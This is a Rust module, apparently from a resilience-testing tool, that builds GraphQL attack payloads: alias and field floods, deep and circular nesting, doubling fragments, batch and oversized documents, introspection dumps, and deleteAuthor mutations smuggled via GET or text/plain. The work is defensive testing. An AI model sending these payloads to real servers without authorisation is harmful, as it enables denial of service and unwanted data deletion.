//! Attacks by documents: what OWASP's GraphQL cheat sheet and tools such as graphql-cop try.

use std::fmt::Write as _;

use crate::{
    bank::{Answer, Attack, Field},
    exchange::{self, ask, send},
};

const CLASS: &str = "graphql";

fn repeated(count: usize, item: impl Fn(usize) -> String) -> String {
    (0..count).fold(String::new(), |mut all, place| {
        let _ = write!(all, "{} ", item(place));
        all
    })
}

/// The same document again and again, made once.
fn always(name: &'static str, clients: usize, document: String) -> Attack {
    Attack::new(CLASS, name, clients, move |field| ask(field, &document, "{}"))
}

/// Another document each time.
fn unseen(
    name: &'static str,
    clients: usize,
    document: impl Fn(u64) -> String + Send + Sync + 'static,
) -> Attack {
    Attack::new(CLASS, name, clients, move |field| ask(field, &document(field.unique()), "{}"))
}

fn nested(depth: usize) -> String {
    format!("{{ authors {}id{} }}", "{ books { author ".repeat(depth), " } }".repeat(depth))
}

/// Each fragment spreads the next one twice.
fn doubling(fragments: usize) -> String {
    let of = |place: usize| format!("fragment F{place} on authors {{ ...F{0} ...F{0} }}", place + 1);
    format!("{{ authors {{ ...F0 }} }} {} fragment F{fragments} on authors {{ id }}", repeated(fragments, of))
}

fn batch(field: &Field<'_>) -> Answer {
    let one = "{\"query\":\"{ authors(limit: 1) { id } }\"}";
    let body = format!("[{}]", vec![one; 1000].join(","));
    send(field, &exchange::post_json(field.site, "/graphql", &body))
}

fn get_query(field: &Field<'_>, query: &str) -> Answer {
    let line = format!("GET /graphql?query={query}");
    send(field, &exchange::request(field.site, &line, "Accept: application/json\r\n", b""))
}

fn as_text(field: &Field<'_>) -> Answer {
    let body = b"{\"query\":\"mutation { deleteAuthor(pk_columns: {id: 1}) { result } }\"}";
    send(field, &exchange::request(field.site, "POST /graphql", "Content-Type: text/plain\r\n", body))
}

fn unknown_hash(field: &Field<'_>) -> Answer {
    let body = format!(
        "{{\"query\":\"{{ authors(limit: 1) {{ n{0}: id }} }}\",\"extensions\":{{\"persistedQuery\":{{\"version\":1,\"sha256Hash\":\"{0:064x}\"}}}}}}",
        field.unique()
    );
    send(field, &exchange::post_json(field.site, "/graphql", &body))
}

pub(crate) fn attacks() -> Vec<Attack> {
    let alias = |number: u64, count: usize| {
        format!("{{ {} }}", repeated(count, |place| format!("a{number}_{place}: authors(limit: 1) {{ id }}")))
    };
    let introspection = "{ __schema { types { name fields(includeDeprecated: true) { name args { name type { name ofType { name } } } type { name ofType { name ofType { name } } } } } } }";
    let circular =
        format!("{{ __schema {{ types {}name{} }} }}", "{ fields { type ".repeat(20), " } }".repeat(20));
    vec![
        unseen("100 aliases, documents never seen", 4, move |number| alias(number, 100)),
        unseen("990 aliases, documents never seen", 20, move |number| alias(number, 990)),
        always("990 aliases, refused again and again", 20, alias(0, 990)),
        always("200 levels", 4, nested(100)),
        always("10,000 levels", 4, nested(5_000)),
        always(
            "a circle of fragments",
            4,
            "{ authors { ...A } } fragment A on authors { ...B } fragment B on authors { ...A }".into(),
        ),
        always("fragments that double 30 times", 4, doubling(30)),
        unseen("1,000 directives on a field", 4, |number| {
            format!("{{ authors(limit: 1) {{ n{number}: id {} }} }}", "@include(if: true) ".repeat(1000))
        }),
        unseen("1,000 unknown directives", 4, |number| {
            format!(
                "{{ authors(limit: 1) {{ n{number}: id {} }} }}",
                repeated(1000, |place| format!("@d{place}"))
            )
        }),
        unseen("a field 10,000 times", 4, |number| {
            format!("{{ authors(limit: 1) {{ n{number}: id {} }} }}", "id ".repeat(10_000))
        }),
        Attack::new(CLASS, "a batch of 1,000 operations", 4, batch),
        always("introspection, all of it", 8, introspection.into()),
        always("introspection in a circle", 4, circular),
        unseen("a document of 900 kB of blanks", 4, |number| {
            format!("{{ authors {{ n{number}: id {} }} }}", " ".repeat(900_000))
        }),
        unseen("a name of 900 kB", 4, |number| {
            format!("{{ authors {{ n{number}{}: id }} }}", "n".repeat(900_000))
        }),
        unseen("a block string of 900 kB", 4, |number| {
            format!(
                "{{ authors(where: {{name: {{eq: \"\"\"{number}{}\"\"\"}}}}) {{ id }} }}",
                "\n  a".repeat(220_000)
            )
        }),
        unseen("900 kB of open braces", 4, |number| format!("{{ n{number}: authors {}", "{".repeat(900_000))),
        unseen("900 kB of open lists", 4, |number| {
            format!("{{ n{number}: authors(where: {}", "[".repeat(900_000))
        }),
        unseen("a number of 500,000 digits", 4, |number| {
            format!("{{ n{number}: authors(limit: {}) {{ id }} }}", "9".repeat(500_000))
        }),
        unseen("syntax errors, each another", 8, |number| format!("{{ authors {{ id n{number}( }} }}")),
        unseen("1,000 unknown fields, each another", 8, |number| {
            format!("{{ authors {{ {} }} }}", repeated(1000, |place| format!("nome{number}_{place}")))
        }),
        unseen("1,000 operations in a document", 4, |number| {
            repeated(1000, |place| format!("query Q{number}_{place} {{ authors {{ id }} }}"))
        }),
        Attack::new(CLASS, "hashes of persisted documents, each another", 8, unknown_hash),
        Attack::new(CLASS, "a mutation by GET", 4, |field| {
            get_query(field, "mutation%7BdeleteAuthor(pk_columns:%7Bid:1%7D)%7Bresult%7D%7D")
        }),
        Attack::new(CLASS, "a mutation as text, as a web page may send it", 4, as_text),
    ]
}
